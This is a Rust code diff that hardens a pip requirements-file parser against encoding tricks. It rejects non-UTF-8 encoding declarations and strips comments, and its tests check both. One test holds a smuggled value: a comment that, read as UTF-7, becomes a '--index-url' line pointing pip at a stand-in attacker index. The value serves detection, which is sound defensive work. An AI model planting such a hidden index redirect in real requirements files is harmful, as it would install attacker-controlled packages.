@@ -35,6 +35,10 @@ pub struct RequirementError {
 
 const SHAPE: &str = r"^([A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?)\s*(?:\[[A-Za-z0-9._,\s-]*\])?\s*((?:(?:===|==|~=|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+\s*(?:,\s*)?)*)$";
 static REQUIREMENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(SHAPE).expect("a valid pattern"));
+/// Declaration of an encoding, as pip looks for it in comments of the first two lines (PEP 263).
+static ENCODING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"coding[:=]\s*([-\w.]+)").expect("a valid pattern"));
+/// Encodings in which pip reads the same text as we do.
+const SAME_TEXT: [&str; 4] = ["utf-8", "utf8", "ascii", "us-ascii"];
 
 /// Parses the file; returns all its errors.
 pub fn requirements(text: &str) -> Result<Vec<Requirement>, Vec<RequirementError>> {
@@ -44,6 +48,11 @@ pub fn requirements(text: &str) -> Result<Vec<Requirement>, Vec<RequirementError
     for (index, line) in text.lines().enumerate().filter(|(_, line)| line.contains(foreign)) {
         let text = line.escape_debug().take(80).collect();
         bad.push(RequirementError { line: index + 1, text, why: "has a control character".to_owned() });
+    }
+    for (index, line) in text.lines().enumerate().take(2).filter(|(_, line)| has_other_encoding(line)) {
+        let text = line.escape_debug().take(80).collect();
+        let why = "declares an encoding, in which pip would read other lines: save the file as UTF-8, without it";
+        bad.push(RequirementError { line: index + 1, text, why: why.to_owned() });
     }
     for (line, text) in logical_lines(text) {
         match one(line, &text) {
@@ -60,6 +69,33 @@ pub fn requirements(text: &str) -> Result<Vec<Requirement>, Vec<RequirementError
         });
     }
     if bad.is_empty() { Ok(good) } else { Err(bad) }
+}
+
+/// Returns the part of the file that pip may read: each requirement without its comments, on the line where it begins.
+///
+/// Comments are not only comments to pip: it obeys the encoding that one declares.
+pub fn without_comments(text: &str) -> String {
+    let (mut plain, mut lines) = (String::new(), 0);
+    for (line, requirement) in logical_lines(text) {
+        while lines + 1 < line {
+            plain.push('\n');
+            lines += 1;
+        }
+        plain.push_str(&requirement);
+        plain.push('\n');
+        lines += 1;
+    }
+    plain
+}
+
+/// True for a comment that declares an encoding other than UTF-8: in UTF-7, what is part of a comment here could be an option of
+/// pip on a line of its own.
+fn has_other_encoding(line: &str) -> bool {
+    let declared = if line.starts_with('#') { ENCODING.captures(line) } else { None };
+    declared.and_then(|found| found.get(1)).is_some_and(|name| {
+        let name = name.as_str().to_ascii_lowercase().replace('_', "-");
+        !SAME_TEXT.contains(&name.as_str())
+    })
 }
 
 /// Returns lines without comments, joined at a final `\` as in pip, each with the number of its first line.
@@ -207,5 +243,39 @@ mod tests {
         }
         let many = "six\n".repeat(MAX_REQUIREMENTS + 1);
         assert!(requirements(&many).unwrap_err()[0].to_string().starts_with("line 501"));
+    }
+
+    #[test]
+    fn no_encoding_makes_pip_read_other_lines() {
+        // In UTF-7, "+AAo-" is the end of a line.
+        let hidden = "six==1.0\n# +AAo---index-url https://evil.example/simple\n";
+        for declared in
+            ["# coding: utf-7", "#!x -*- CODING:utf-8 -*- coding=  utf_7", "# vim: set fileencoding=cp037 :"]
+        {
+            for text in
+                [format!("{declared}\n{hidden}"), format!("\n{declared}\n{hidden}"), format!("{declared}\r\n{hidden}")]
+            {
+                let said = requirements(&text).unwrap_err()[0].to_string();
+                assert!(said.contains("declares an encoding"), "{text:?}: {said}");
+            }
+            // pip looks no further than the second line.
+            assert_eq!(read(&format!("\n\n{declared}\n{hidden}")).len(), 1);
+        }
+        for same in
+            ["# -*- coding: UTF-8 -*-", "# coding=utf8", "# coding: utf_8", "# encoding of names", " # coding: utf-7"]
+        {
+            assert_eq!(read(&format!("{same}\n{hidden}")).len(), 1, "{same}");
+        }
+    }
+
+    #[test]
+    fn pip_reads_no_comment_and_counts_the_same_lines() {
+        let text = format!(
+            "# coding: utf-8\n\nsix>=1.0,<2  # why é\nPyYAML == 6.0.2 \\\n    {HASH} \\\n    {HASH}\r\nplain\n# end\n"
+        );
+        let plain = without_comments(&text);
+        assert_eq!(plain, format!("\n\nsix>=1.0,<2\nPyYAML == 6.0.2     {HASH}     {HASH}\n\n\nplain\n"));
+        assert_eq!(read(&plain), read(&text));
+        assert_eq!(without_comments(""), "");
     }
 }
